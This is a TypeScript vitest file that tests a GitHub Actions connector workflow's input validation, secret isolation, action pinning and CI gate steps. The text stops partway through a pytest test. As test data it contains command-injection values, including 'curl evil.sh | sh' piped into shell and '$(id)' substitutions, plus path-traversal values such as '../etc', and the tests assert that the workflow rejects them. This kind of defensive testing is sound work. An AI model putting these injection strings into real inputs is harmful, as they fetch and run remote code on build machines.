import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import { DEFAULT_REPO_CONFIG } from '../../src/config/repo-config.js';
import {
  CI_GATES,
  mergedSourcePath,
  RESULTS_ARTIFACT_NAME,
  RESULTS_FILES,
  ResultsSummary,
} from '../../src/domain/ci/results-artifact.js';
import { ciRunKey } from '../../src/domain/pipeline/jobs.js';
import { CiMode } from '../../src/domain/pipeline/run.js';
import {
  buildPytestIgnoreArgs,
  isLintedByPylint,
  PYLINT_FLAGS,
  PYLINT_SKIPPED_PATTERNS,
  parseTestExclusions,
  TEST_EXCLUDE_FILE,
} from '../../src/domain/target-repo/ci-gates.js';
import { DEFAULT_LAYOUT } from '../../src/domain/target-repo/layout.js';

const WORKFLOW_URL = new URL('../../.github/workflows/lakeflow-connector-tests.yml', import.meta.url);
const PYTHON = process.env.PYTHON ?? 'python3';

/** A GitHub Actions expression, `${{ inner }}` (built so Biome does not take it for a template slip). */
function expr(inner: string): string {
  return `\${{ ${inner} }}`;
}
const EXPRESSION_OPEN = expr('').slice(0, 3);

/** The parts of a GitHub Actions workflow this test reads. */
const Step = z.object({
  name: z.string().min(1),
  id: z.string().optional(),
  if: z.string().optional(),
  uses: z.string().optional(),
  run: z.string().optional(),
  shell: z.string().optional(),
  env: z.record(z.string(), z.union([z.string(), z.number()])).optional(),
  with: z.record(z.string(), z.unknown()).optional(),
  'continue-on-error': z.boolean().optional(),
});
type Step = z.infer<typeof Step>;
const Job = z.object({
  name: z.string(),
  if: z.string(),
  'runs-on': z.string(),
  'timeout-minutes': z.number(),
  environment: z.string().optional(),
  permissions: z.unknown().optional(),
  env: z.record(z.string(), z.string()).optional(),
  steps: z.array(Step).min(1),
});
type Job = z.infer<typeof Job>;
const Input = z.object({
  type: z.string(),
  required: z.boolean(),
  options: z.array(z.string()).optional(),
  default: z.string().optional(),
});
const Workflow = z.object({
  name: z.string(),
  'run-name': z.string(),
  on: z.object({ workflow_dispatch: z.object({ inputs: z.record(z.string(), Input) }) }),
  permissions: z.unknown(),
  concurrency: z.object({ group: z.string(), 'cancel-in-progress': z.boolean() }),
  jobs: z.record(z.string(), Job),
});

const text = readFileSync(WORKFLOW_URL, 'utf8');
const workflow = Workflow.parse(parse(text));
const jobs = Object.entries(workflow.jobs);
const liveJobs = jobs.filter(([, job]) => job.environment !== undefined);
const offlineJobs = jobs.filter(([, job]) => job.environment === undefined);
const allSteps = jobs.flatMap(([jobId, job]) => job.steps.map((step) => ({ jobId, step })));

/** GitHub's most `workflow_dispatch` inputs per workflow (10 until late 2025, 25 since): the lower bound. */
const MAX_DISPATCH_INPUTS = 10;

/**
 * A job's `env:` as GitHub evaluates it for a dispatch with `given` inputs (the others at their
 * defaults): each `${{ inputs.x }}` replaced by the input's value; any other expression is left out.
 */
function jobEnv(job: Job, given: Record<string, string>): Record<string, string> {
  const inputs = workflow.on.workflow_dispatch.inputs;
  const value = (name: string) => given[name] ?? inputs[name]?.default ?? '';
  return Object.fromEntries(
    Object.entries(job.env ?? {}).map(([name, raw]) => [
      name,
      raw.replace(/\$\{\{\s*inputs\.(\w+)\s*\}\}/g, (_, input: string) => value(input)),
    ]),
  );
}

function stepsWithId(job: Job, id: string): Step[] {
  return job.steps.filter((step) => step.id === id);
}

function summaryStep(job: Job): Step {
  const step = job.steps.find(
    (candidate) => candidate.run?.includes('summary.json') && candidate.shell === 'python',
  );
  if (!step?.run) throw new Error(`job "${job.name}" has no python step writing summary.json`);
  return step;
}

function uploadStep(job: Job): Step {
  const uploads = job.steps.filter((step) => step.uses?.startsWith('actions/upload-artifact@'));
  expect(uploads, `job "${job.name}" uploads exactly one artifact`).toHaveLength(1);
  return uploads[0] as Step;
}

describe('the connector workflow', () => {
  it('is dispatched with source, mode (the four CI modes) and run_key', () => {
    const inputs = workflow.on.workflow_dispatch.inputs;

    expect(Object.keys(inputs).filter((name) => inputs[name]?.required)).toEqual([
      'source',
      'mode',
      'run_key',
    ]);
    expect(inputs.source).toMatchObject({ type: 'string', required: true });
    expect(inputs.run_key).toMatchObject({ type: 'string', required: true });
    expect(inputs.mode).toMatchObject({ type: 'choice', required: true });
    expect(inputs.mode?.options).toEqual(CiMode.options);
  });

  it("takes the environment and the three connector folders as optional inputs whose defaults are the upstream ones, within GitHub's input limit", () => {
    const inputs = workflow.on.workflow_dispatch.inputs;

    expect(Object.keys(inputs).sort()).toEqual(
      ['environment', 'mode', 'run_key', 'simulator_specs_dir', 'source', 'sources_dir', 'tests_dir'].sort(),
    );
    expect(Object.keys(inputs).length).toBeLessThanOrEqual(MAX_DISPATCH_INPUTS);
    expect(inputs.environment).toMatchObject({
      type: 'string',
      required: false,
      default: DEFAULT_REPO_CONFIG.environment,
    });
    expect(inputs.sources_dir).toMatchObject({
      type: 'string',
      required: false,
      default: DEFAULT_LAYOUT.sources,
    });
    expect(inputs.tests_dir).toMatchObject({
      type: 'string',
      required: false,
      default: DEFAULT_LAYOUT.tests,
    });
    expect(inputs.simulator_specs_dir).toMatchObject({
      type: 'string',
      required: false,
      default: DEFAULT_LAYOUT.simulatorSpecs,
    });
    expect(DEFAULT_REPO_CONFIG.paths).toEqual(DEFAULT_LAYOUT);
  });

  it('hands every job the folders and the environment through env, the connector folders built from them', () => {
    for (const [jobId, job] of jobs) {
      expect(job.env, jobId).toMatchObject({
        SOURCES_DIR: expr('inputs.sources_dir'),
        TESTS_DIR: expr('inputs.tests_dir'),
        SIMULATOR_SPECS_DIR: expr('inputs.simulator_specs_dir'),
        LAKEFLOW_ENVIRONMENT: expr('inputs.environment'),
        SOURCE_DIR: `${expr('inputs.sources_dir')}/${expr('inputs.source')}`,
        CONNECTOR_TESTS_DIR: `${expr('inputs.tests_dir')}/${expr('inputs.source')}`,
      });
      const scripts = job.steps.map((step) => step.run ?? '').join('\n');
      expect(scripts, jobId).not.toContain(DEFAULT_LAYOUT.tests);
      expect(scripts, jobId).not.toContain(DEFAULT_LAYOUT.sources);
    }
  });

  it("names each run so that the name ends with the bot's run key", () => {
    const key = ciRunKey(
      { installationId: 7, owner: 'acme', repo: 'connectors', issue: 42 },
      'test',
      1,
      2,
      'simulate',
    );
    const rendered = workflow['run-name']
      .replaceAll(expr('inputs.source'), 'github')
      .replaceAll(expr('inputs.mode'), 'simulate')
      .replaceAll(expr('inputs.run_key'), key);

    expect(workflow['run-name'].trimEnd()).toMatch(/\$\{\{\s*inputs\.run_key\s*\}\}$/);
    expect(rendered.endsWith(` ${key}`)).toBe(true);
    expect(rendered).not.toContain(EXPRESSION_OPEN);
  });

  it('reads contents only, at the top and in every job, one run per ref at a time', () => {
    expect(workflow.permissions).toEqual({ contents: 'read' });
    for (const [jobId, job] of jobs) expect(job.permissions, jobId).toBeUndefined();
    expect(workflow.concurrency).toEqual({
      group: `${expr('github.workflow')}-${expr('github.ref')}`,
      'cancel-in-progress': false,
    });
  });

  it('bounds every job in time', () => {
    for (const [jobId, job] of jobs) {
      expect(job['timeout-minutes'], jobId).toBeGreaterThan(0);
      expect(job['timeout-minutes'], jobId).toBeLessThanOrEqual(30);
    }
  });

  it('has one offline job for simulate/package and one live job for live/auth', () => {
    expect(offlineJobs).toHaveLength(1);
    expect(liveJobs).toHaveLength(1);
    const [, offline] = offlineJobs[0] as [string, Job];
    const [, live] = liveJobs[0] as [string, Job];

    expect(offline.if).toMatch(/inputs\.mode == 'simulate' \|\| inputs\.mode == 'package'/);
    expect(live.if).toMatch(/inputs\.mode == 'live' \|\| inputs\.mode == 'auth'/);
    expect(live.environment).toBe(expr('inputs.environment'));
    expect(live.name).toContain(expr('inputs.environment'));
    const guard = live.steps.find((step) => step.run?.includes('secret_guard.py" <<'))?.run ?? '';
    expect(guard).toContain('LAKEFLOW_ENVIRONMENT');
    expect(guard).not.toContain('lakeflow-live');
  });

  it('passes inputs to scripts only through env, never as an expression inside a script', () => {
    const offenders = allSteps.filter(({ step }) => step.run?.includes(EXPRESSION_OPEN));

    expect(offenders.map(({ jobId, step }) => `${jobId}: ${step.name}`)).toEqual([]);
  });

  it('validates the inputs first in every job, before anything is checked out', () => {
    for (const [jobId, job] of jobs) {
      const first = job.steps[0] as Step;
      expect(first.name, jobId).toMatch(/validate inputs/i);
      expect(first.run, jobId).toBeDefined();
      expect(job.env, jobId).toMatchObject({
        SOURCE: expr('inputs.source'),
        MODE: expr('inputs.mode'),
        RUN_KEY: expr('inputs.run_key'),
      });
    }
  });

  it('rejects hostile or oversized inputs in the validation step with a clear message', () => {
    const offline = (offlineJobs[0] as [string, Job])[1];
    const script = offline.steps[0]?.run ?? '';
    const defaults = jobEnv(offline, {});
    const validate = (env: Record<string, string>) =>
      spawnSync('bash', ['-eo', 'pipefail', '-c', script], {
        env: { PATH: process.env.PATH, ...defaults, ...env },
      });
    const ok = {
      SOURCE: 'google_sheets',
      MODE: 'package',
      RUN_KEY: 'acme-connectors-42-b1-test-a2-simulate',
    };

    expect(validate(ok).status).toBe(0);
    for (const bad of [
      { SOURCE: 'a; curl evil.sh | sh' },
      { SOURCE: '../etc' },
      { SOURCE: 'x'.repeat(65) },
      { SOURCE: '' },
      { MODE: 'record' },
      { RUN_KEY: 'key $(id)' },
      { RUN_KEY: 'k'.repeat(201) },
    ]) {
      const result = validate({ ...ok, ...bad });
      expect(result.status, JSON.stringify(bad)).toBe(1);
      expect(result.stdout.toString()).toMatch(/::error title=Invalid input::(source|mode|run_key) must/);
    }
  });

  // One bash process per case: on a loaded CI machine a job's cases take seconds, so each job is
  // its own test with room for process start-up (this checks behaviour, not speed).
  it.each(jobs.map(([jobId, job]) => ({ jobId, job })))(
    'accepts the default and custom folders and environments, and rejects hostile ones, in job $jobId',
    ({ jobId, job }) => {
      const script = job.steps[0]?.run ?? '';
      const validate = (given: Record<string, string>) =>
        spawnSync('bash', ['-eo', 'pipefail', '-c', script], {
          env: {
            PATH: process.env.PATH,
            ...jobEnv(job, {
              source: 'google_sheets',
              mode: 'package',
              run_key: 'acme-connectors-42-b1-test-a2-simulate',
              ...given,
            }),
          },
        });

      expect(validate({}).status, jobId).toBe(0);
      expect(
        validate({
          environment: 'connector live',
          sources_dir: 'connectors/sources',
          tests_dir: 'connectors/tests',
          simulator_specs_dir: 'connectors/sim-specs.v2',
        }).status,
        jobId,
      ).toBe(0);
      const hostile: Array<Record<string, string>> = [
        { sources_dir: '../outside' },
        { sources_dir: '/etc' },
        { tests_dir: 'tests/../..' },
        { tests_dir: 'tests/' },
        { tests_dir: '.github/workflows' },
        { simulator_specs_dir: 'specs; curl evil.sh | sh' },
        { simulator_specs_dir: '$(id)' },
        { sources_dir: 'a'.repeat(201) },
        { sources_dir: '' },
        { environment: 'live\nx' },
        { environment: ' leading' },
        { environment: 'two  spaces' },
        { environment: '' },
        { environment: 'e'.repeat(256) },
      ];
      for (const bad of hostile) {
        const result = validate(bad);
        expect(result.status, `${jobId} ${JSON.stringify(bad)}`).toBe(1);
        expect(result.stdout.toString()).toMatch(
          /::error title=Invalid input::(sources_dir|tests_dir|simulator_specs_dir|environment) must/,
        );
      }
    },
    30_000,
  );

  it('keeps secrets and CONNECTOR_TEST_* variables out of the offline job', () => {
    const [jobId, offline] = offlineJobs[0] as [string, Job];

    expect(JSON.stringify(offline), jobId).not.toMatch(/secrets\./);
    const envNames = [offline.env ?? {}, ...offline.steps.map((step) => step.env ?? {})].flatMap(Object.keys);
    expect(envNames.filter((name) => name.startsWith('CONNECTOR_TEST_'))).toEqual([]);
    expect(offline.steps.map((step) => step.run ?? '').join('\n')).not.toContain('CONNECTOR_TEST_');
  });

  it('gives the secret only to the auth_test and pytest steps of the live job, never echoing it', () => {
    const [, live] = liveJobs[0] as [string, Job];
    const withSecret = live.steps.filter((step) => JSON.stringify(step).includes('secrets.'));

    expect(JSON.stringify(live.env)).not.toContain('secrets.');
    expect(withSecret.map((step) => step.id)).toEqual(['auth_test', 'pytest']);
    for (const step of withSecret) {
      expect(step.env?.CONNECTOR_TEST_CONFIG_JSON).toBe(expr('secrets.CONNECTOR_TEST_CONFIG_JSON'));
    }
    expect(stepsWithId(live, 'pytest')[0]?.env?.CONNECTOR_TEST_MODE).toBe('live');
    expect(text).not.toMatch(/(echo|printf|cat)[^\n]*CONNECTOR_TEST_CONFIG_JSON/);
  });

  it('pins every action to a full commit SHA with a version comment', () => {
    const uses = allSteps.flatMap(({ step }) => (step.uses ? [step.uses] : []));
    const lines = text.split('\n').filter((line) => /^\s*(-\s+)?uses:/.test(line));

    expect(uses.length).toBeGreaterThanOrEqual(6);
    for (const ref of uses) expect(ref).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
    for (const line of lines) expect(line).toMatch(/@[0-9a-f]{40} # v\d+(\.\d+)*$/);
  });

  it('uploads results/ (and nothing else) as the one artifact the bot reads, even after a failure', () => {
    for (const [jobId, job] of jobs) {
      const upload = uploadStep(job);

      expect(upload.with?.name, jobId).toBe(RESULTS_ARTIFACT_NAME);
      expect(upload.with?.path, jobId).toBe('results/');
      expect(upload.if, jobId).toBe('always()');
      expect(Number(upload.with?.['retention-days']), jobId).toBeLessThanOrEqual(14);
    }
  });

  it('writes the JUnit XML of every pytest step where the artifact picks it up', () => {
    for (const [jobId, job] of jobs) {
      const pytest = stepsWithId(job, 'pytest')[0];
      const junit = /--junitxml=(\S+)/.exec(pytest?.run ?? '')?.[1];

      expect(pytest?.run, jobId).toContain('-p no:cacheprovider');
      expect(pytest?.run, jobId).toContain(`EXCLUDE_FILE=${TEST_EXCLUDE_FILE}`);
      expect(junit, jobId).toBe(`${uploadStep(job).with?.path}${RESULTS_FILES.junit}`);
    }
  });

  it('runs each gate as its own step, whose failure does not stop the later gates, with a log tail', () => {
    for (const [jobId, job] of jobs) {
      const gateSteps = job.steps.filter((step) => (CI_GATES as readonly string[]).includes(step.id ?? ''));

      expect(gateSteps.length, jobId).toBeGreaterThan(0);
      for (const step of gateSteps) {
        expect(step['continue-on-error'], `${jobId}.${step.id}`).toBe(true);
        expect(step.run, `${jobId}.${step.id}`).toContain(`tee results/logs/${step.id}.txt`);
        expect(step.run, `${jobId}.${step.id}`).toContain(`tail -c 8000 results/logs/${step.id}.txt`);
      }
    }
    const offline = (offlineJobs[0] as [string, Job])[1];
    const live = (liveJobs[0] as [string, Job])[1];
    expect(offline.steps.flatMap((step) => step.id ?? [])).toEqual(
      expect.arrayContaining(['pytest', 'merged_source', 'pylint', 'wheel']),
    );
    expect(stepsWithId(offline, 'auth_test')).toEqual([]);
    expect(stepsWithId(live, 'auth_test')[0]?.if).toContain("inputs.mode == 'auth'");
    expect(stepsWithId(offline, 'wheel')[0]?.if).toContain("inputs.mode == 'package'");
    expect(stepsWithId(offline, 'merged_source')[0]?.if).toContain("inputs.mode == 'package'");
    expect(stepsWithId(offline, 'wheel')[0]?.run).toContain(
      'python -m build --wheel "$SOURCE_DIR" --outdir results/dist',
    );
  });

  it('keeps the regenerated merged source in results/generated/ after its gate, before the summary and upload', () => {
    const offline = (offlineJobs[0] as [string, Job])[1];
    const index = (step: Step | undefined) => offline.steps.indexOf(step as Step);
    const keep = offline.steps.find((step) => step.if?.includes('steps.merged_source.outputs.stale'));

    expect(keep?.if).toBe(`${expr("!cancelled() && steps.merged_source.outputs.stale == 'true'")}`);
    expect(keep?.run).toContain(`cp -- "$GENERATED" "results/${RESULTS_FILES.generatedDir}$GENERATED"`);
    expect(index(keep)).toBeGreaterThan(index(stepsWithId(offline, 'merged_source')[0]));
    expect(index(keep)).toBeLessThan(index(summaryStep(offline)));
    expect(index(keep)).toBeLessThan(index(uploadStep(offline)));
    for (const [jobId, job] of liveJobs) expect(JSON.stringify(job), jobId).not.toContain('generated/');
  });

  it("names its own job's gate steps, and only those, in the summary step; the script is the same in both jobs", () => {
    const named: string[] = [];
    for (const [jobId, job] of jobs) {
      const step = summaryStep(job);
      const outcomes = Object.entries(step.env ?? {}).filter(([name]) => name.startsWith('OUTCOME_'));
      const gateSteps = CI_GATES.filter((gate) => stepsWithId(job, gate).length > 0);

      expect(step.if, jobId).toBe('always()');
      expect(
        outcomes.map(([name]) => name.slice('OUTCOME_'.length).toLowerCase()),
        jobId,
      ).toEqual(gateSteps);
      for (const [name, value] of outcomes) {
        expect(value).toBe(expr(`steps.${name.slice('OUTCOME_'.length).toLowerCase()}.outcome`));
      }
      expect(step.run, jobId).toContain(`GATES = (${CI_GATES.map((gate) => `"${gate}"`).join(', ')})`);
      named.push(...gateSteps);
    }
    expect([...new Set(named)].sort()).toEqual([...CI_GATES].sort());
    const { env: _liveEnv, ...live } = summaryStep((liveJobs[0] as [string, Job])[1]);
    const { env: _offlineEnv, ...offline } = summaryStep((offlineJobs[0] as [string, Job])[1]);
    expect(live).toEqual(offline);
  });
});

describe('the summary step, run with python', () => {
  const script = summaryStep((offlineJobs[0] as [string, Job])[1]).run ?? '';
  const dirs: string[] = [];

  afterEach(() => {
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  function runSummary(env: Record<string, string>) {
    const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-summary-'));
    dirs.push(cwd);
    const result = spawnSync(PYTHON, ['-c', script], { cwd, env: { PATH: process.env.PATH, ...env } });
    const file = join(cwd, 'results', RESULTS_FILES.summary);
    const summary = existsSync(file) ? ResultsSummary.parse(JSON.parse(readFileSync(file, 'utf8'))) : null;
    return {
      status: result.status,
      stdout: result.stdout.toString(),
      stderr: result.stderr.toString(),
      summary,
    };
  }

  const inputs = { SOURCE: 'example_crm', RUN_KEY: 'acme-connectors-42-b1-test-a3-simulate' };

  it('writes a summary the bot parses, mapping step outcomes to gate results, and passes when nothing failed', () => {
    const result = runSummary({
      ...inputs,
      MODE: 'package',
      OUTCOME_AUTH_TEST: '',
      OUTCOME_PYTEST: 'success',
      OUTCOME_MERGED_SOURCE: 'success',
      OUTCOME_PYLINT: 'success',
      OUTCOME_WHEEL: 'skipped',
    });

    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(result.summary).toEqual({
      version: 1,
      source: 'example_crm',
      mode: 'package',
      runKey: 'acme-connectors-42-b1-test-a3-simulate',
      gates: {
        auth_test: 'skipped',
        pytest: 'passed',
        merged_source: 'passed',
        pylint: 'passed',
        wheel: 'skipped',
      },
    });
  });

  it('records failed and cancelled gates as failed and fails the job, still writing the summary', () => {
    const result = runSummary({
      ...inputs,
      MODE: 'simulate',
      OUTCOME_PYTEST: 'failure',
      OUTCOME_MERGED_SOURCE: 'success',
      OUTCOME_PYLINT: 'cancelled',
    });

    expect(result.status).toBe(1);
    expect(result.stdout).toContain('::error title=Gates failed::pytest, pylint');
    expect(result.summary?.gates).toEqual({
      auth_test: 'skipped',
      pytest: 'failed',
      merged_source: 'passed',
      pylint: 'failed',
      wheel: 'skipped',
    });
  });

  it('records the live auth check', () => {
    const result = runSummary({ ...inputs, MODE: 'auth', OUTCOME_AUTH_TEST: 'failure' });

    expect(result.status).toBe(1);
    expect(result.summary).toMatchObject({ mode: 'auth', gates: { auth_test: 'failed', pytest: 'skipped' } });
  });

  it('writes nothing and fails when the inputs are not valid', () => {
    const result = runSummary({
      ...inputs,
      SOURCE: 'bad source',
      MODE: 'simulate',
      OUTCOME_PYTEST: 'success',
    });

    expect(result.status).toBe(1);
    expect(result.summary).toBeNull();
    expect(result.stdout).toContain('::error title=No summary::');
  });
});

describe('the merged source steps, run with bash in a git checkout', () => {
  const offline = (offlineJobs[0] as [string, Job])[1];
  const check = stepsWithId(offline, 'merged_source')[0]?.run ?? '';
  const keep = offline.steps.find((step) => step.if?.includes('merged_source.outputs.stale'))?.run ?? '';
  const SOURCE = 'example_crm';
  const SOURCE_DIR = `src/databricks/labs/community_connector/sources/${SOURCE}`;
  const GENERATED = mergedSourcePath(SOURCE);
  const dirs: string[] = [];

  afterEach(() => {
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  /** A git checkout whose merge script writes `merged`, with `committed` as the committed file. */
  function checkout(committed: string | null) {
    const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-merged-'));
    dirs.push(cwd);
    mkdirSync(join(cwd, 'tools/scripts'), { recursive: true });
    mkdirSync(join(cwd, SOURCE_DIR), { recursive: true });
    mkdirSync(join(cwd, 'results/logs'), { recursive: true });
    mkdirSync(join(cwd, 'bin'));
    symlinkSync(spawnSync('which', [PYTHON]).stdout.toString().trim(), join(cwd, 'bin/python'));
    writeFileSync(
      join(cwd, 'tools/scripts/merge_python_source.py'),
      `import sys\nopen(f"${SOURCE_DIR}/_generated_{sys.argv[1]}_python_source.py", "w").write("merged\\n")\n`,
    );
    writeFileSync(join(cwd, '.gitignore'), 'results/\nbin/\n');
    if (committed !== null) writeFileSync(join(cwd, GENERATED), committed);
    const git = (...args: string[]) => spawnSync('git', args, { cwd });
    git('init', '-q');
    git('add', '.');
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'base');
    return cwd;
  }

  function runStep(cwd: string, script: string) {
    const output = join(cwd, 'github-output');
    writeFileSync(output, '');
    const env = {
      PATH: `${join(cwd, 'bin')}:${process.env.PATH}`,
      SOURCE,
      SOURCE_DIR,
      GITHUB_OUTPUT: output,
      RUNNER_TEMP: cwd,
    };
    const result = spawnSync('bash', ['-eo', 'pipefail', '-c', script], { cwd, env });
    return { status: result.status, output: readFileSync(output, 'utf8') };
  }

  it.each([
    ['missing', null],
    ['stale', 'merged by hand\n'],
  ])(
    'fails on a %s file, and the keep step copies the regenerated one into results/generated/',
    (_, committed) => {
      const cwd = checkout(committed);

      const checked = runStep(cwd, check);
      const kept = runStep(cwd, keep);

      expect(checked.status).toBe(1);
      expect(checked.output).toContain('stale=true');
      expect(readFileSync(join(cwd, 'results/logs/merged_source.txt'), 'utf8')).toContain('missing or stale');
      expect(kept.status).toBe(0);
      expect(readFileSync(join(cwd, 'results', RESULTS_FILES.generatedDir, GENERATED), 'utf8')).toBe(
        'merged\n',
      );
    },
  );

  it('passes on a current file and marks nothing to keep', () => {
    const cwd = checkout('merged\n');

    const checked = runStep(cwd, check);

    expect(checked.status).toBe(0);
    expect(checked.output).toBe('');
  });
});

/** Runs a step's script with bash in `cwd`, stand-ins from `cwd/bin` first on the PATH. */
function runScript(cwd: string, script: string, env: Record<string, string>) {
  const result = spawnSync('bash', ['-eo', 'pipefail', '-c', script], {
    cwd,
    env: { PATH: `${join(cwd, 'bin')}:${process.env.PATH}`, RUNNER_TEMP: cwd, ...env },
  });
  return { status: result.status, stdout: result.stdout.toString(), stderr: result.stderr.toString() };
}

/** A stand-in command in `cwd/bin` that writes its arguments, NUL-separated, to `$ARGS_OUT` when `when` holds. */
function standIn(cwd: string, name: string, when = 'true') {
  mkdirSync(join(cwd, 'bin'), { recursive: true });
  const path = join(cwd, 'bin', name);
  writeFileSync(path, `#!/bin/bash\nif ${when}; then printf '%s\\0' "$@" > "$ARGS_OUT"; fi\nexit 0\n`);
  chmodSync(path, 0o755);
}

function readArgs(path: string): string[] | null {
  return existsSync(path) ? readFileSync(path, 'utf8').split('\0').slice(0, -1) : null;
}

describe("the pylint step, run with bash against upstream's facts in ci-gates.ts", () => {
  const offline = (offlineJobs[0] as [string, Job])[1];
  const script = stepsWithId(offline, 'pylint')[0]?.run ?? '';
  const dirs: string[] = [];

  afterEach(() => {
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  /** The elements of a bash array the step defines before its lint function, as bash expands them. */
  function bashArray(name: string): string[] {
    const definitions = script.slice(0, script.indexOf('lint() {'));
    const result = spawnSync('bash', ['-c', `${definitions}\nprintf '%s\\0' "\${${name}[@]}"`]);
    expect(result.status, result.stderr.toString()).toBe(0);
    return result.stdout.toString().split('\0').slice(0, -1);
  }

  it('defines exactly the flags and skipped path patterns of ci-gates.ts', () => {
    expect(bashArray('PYLINT_FLAGS')).toEqual(PYLINT_FLAGS);
    expect(bashArray('PYLINT_SKIPPED')).toEqual(PYLINT_SKIPPED_PATTERNS);
  });

  /** A git checkout with the connector's `files` committed, stand-ins for pip and pylint. */
  function checkout(source: string, files: string[]) {
    const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-pylint-'));
    dirs.push(cwd);
    const sourceDir = `src/databricks/labs/community_connector/sources/${source}`;
    for (const file of ['requirements/pylint.txt', ...files.map((name) => `${sourceDir}/${name}`)]) {
      mkdirSync(join(cwd, file, '..'), { recursive: true });
      writeFileSync(join(cwd, file), '\n');
    }
    writeFileSync(join(cwd, '.gitignore'), 'results/\nbin/\nargs\n');
    const git = (...args: string[]) => spawnSync('git', args, { cwd });
    git('init', '-q');
    git('add', '.');
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'base');
    mkdirSync(join(cwd, 'results/logs'), { recursive: true });
    standIn(cwd, 'pip', 'false');
    standIn(cwd, 'pylint');
    const lsFiles = spawnSync('git', ['ls-files', '--', sourceDir], { cwd }).stdout.toString();
    const run = () =>
      runScript(cwd, script, { SOURCE: source, SOURCE_DIR: sourceDir, ARGS_OUT: join(cwd, 'args') });
    return { cwd, sourceDir, tracked: lsFiles.split('\n').filter(Boolean), run };
  }

  it("lints, with upstream's flags, the connector's tracked modules its workflow lints, nested ones too", () => {
    const repo = checkout('alpha', [
      '__init__.py',
      'alpha.py',
      'helpers/paging.py',
      '_generated_alpha_python_source.py',
      'README.md',
    ]);

    const result = repo.run();

    expect(result.status, result.stderr).toBe(0);
    const files = repo.tracked.filter(isLintedByPylint);
    expect(files).toEqual(
      ['__init__.py', 'alpha.py', 'helpers/paging.py'].map((name) => `${repo.sourceDir}/${name}`),
    );
    expect(readArgs(join(repo.cwd, 'args'))).toEqual([...PYLINT_FLAGS, ...files]);
  });

  it('lints the connector under the sources_dir input', () => {
    const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-pylint-'));
    dirs.push(cwd);
    const sourceDir = 'connectors/sources/alpha';
    for (const file of [
      'requirements/pylint.txt',
      `${sourceDir}/alpha.py`,
      'src/databricks/labs/community_connector/sources/alpha/alpha.py',
    ]) {
      mkdirSync(join(cwd, file, '..'), { recursive: true });
      writeFileSync(join(cwd, file), '\n');
    }
    writeFileSync(join(cwd, '.gitignore'), 'results/\nbin/\nargs\n');
    const git = (...args: string[]) => spawnSync('git', args, { cwd });
    git('init', '-q');
    git('add', '.');
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'base');
    mkdirSync(join(cwd, 'results/logs'), { recursive: true });
    standIn(cwd, 'pip', 'false');
    standIn(cwd, 'pylint');
    const env = jobEnv(offline, {
      source: 'alpha',
      mode: 'simulate',
      run_key: 'k',
      sources_dir: 'connectors/sources',
    });

    const result = runScript(cwd, script, { ...env, ARGS_OUT: join(cwd, 'args') });

    expect(result.status, result.stderr).toBe(0);
    expect(readArgs(join(cwd, 'args'))).toEqual([...PYLINT_FLAGS, `${sourceDir}/alpha.py`]);
  });

  it('passes without running pylint on a connector upstream does not lint, and fails on one with no module', () => {
    const skipped = checkout('hubspot', ['hubspot.py']);
    const empty = checkout('beta', ['README.md']);

    const skippedRun = skipped.run();
    const emptyRun = empty.run();

    expect(skippedRun.status).toBe(0);
    expect(readArgs(join(skipped.cwd, 'args'))).toBeNull();
    expect(readFileSync(join(skipped.cwd, 'results/logs/pylint.txt'), 'utf8')).toContain('lints none of');
    expect(emptyRun.status).toBe(1);
    expect(readFileSync(join(empty.cwd, 'results/logs/pylint.txt'), 'utf8')).toContain('Nothing to lint');
  });
});

describe('the pytest steps, run with bash against parseTestExclusions', () => {
  const SOURCE = 'alpha';
  const dirs: string[] = [];

  afterEach(() => {
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  /**
   * The arguments each job's pytest step passes to `python -m pytest` with `exclusions` as the file,
   * the job's env evaluated for a dispatch with `given` inputs.
   */
  function pytestArgs(exclusions: string | null, given: Record<string, string> = {}) {
    return jobs.map(([jobId, job]) => {
      const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-pytest-'));
      dirs.push(cwd);
      mkdirSync(join(cwd, 'results/logs'), { recursive: true });
      if (exclusions !== null) {
        mkdirSync(join(cwd, '.github/workflows'), { recursive: true });
        writeFileSync(join(cwd, TEST_EXCLUDE_FILE), exclusions);
      }
      standIn(cwd, 'python', '[ "$1" = -m ]');
      const script = stepsWithId(job, 'pytest')[0]?.run ?? '';
      const env = jobEnv(job, { source: SOURCE, mode: 'simulate', run_key: 'k', ...given });
      const result = runScript(cwd, script, { ...env, ARGS_OUT: join(cwd, 'args') });
      expect(result.status, `${jobId}: ${result.stderr}`).toBe(0);
      return { jobId, args: readArgs(join(cwd, 'args')) };
    });
  }

  function expected(ignores: string[], tests = DEFAULT_LAYOUT.tests) {
    return ['-m', 'pytest', `${tests}/${SOURCE}/`, ...ignores, '-v', '-p', 'no:cacheprovider'].concat(
      `--junitxml=results/${RESULTS_FILES.junit}`,
    );
  }

  const lines = [
    '# Test files excluded from CI.',
    '   # an indented comment',
    '',
    ' \t ',
    'tests/unit/sources/alpha/test_needs_credentials.py   ',
    'tests/unit/sources/alpha_beta/test_prefix_source.py',
    'tests/unit/sources/beta/test_other_source.py',
    '  tests/unit/sources/alpha/test_leading_blanks.py',
    'tests/unit/sources/alpha/slow/',
    'tests/unit/sources/alpha/test_last_line.py',
  ];

  it.each([
    ['LF, with no newline after the last line', lines.join('\n')],
    ['CRLF', `${lines.join('\r\n')}\r\n`],
